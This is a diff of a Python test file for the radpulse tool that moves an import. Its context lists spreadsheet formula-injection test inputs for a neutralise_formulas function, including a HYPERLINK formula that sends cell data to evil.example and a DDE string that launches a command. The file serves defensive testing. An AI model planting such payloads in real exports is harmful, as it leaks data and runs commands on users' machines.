@@ -10,10 +10,10 @@ import pandas as pd
 from click.testing import CliRunner
 
 from radpulse.cli.main import cli
-from radpulse.collectors.base import PostRecord
 from radpulse.db.engine import open_database
 from radpulse.db.store import upsert_posts
 from radpulse.export_safety import neutralise_formulas
+from radpulse.records import PostRecord
 
 WHEN = dt.datetime(2026, 11, 18, 12, tzinfo=dt.timezone.utc)
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
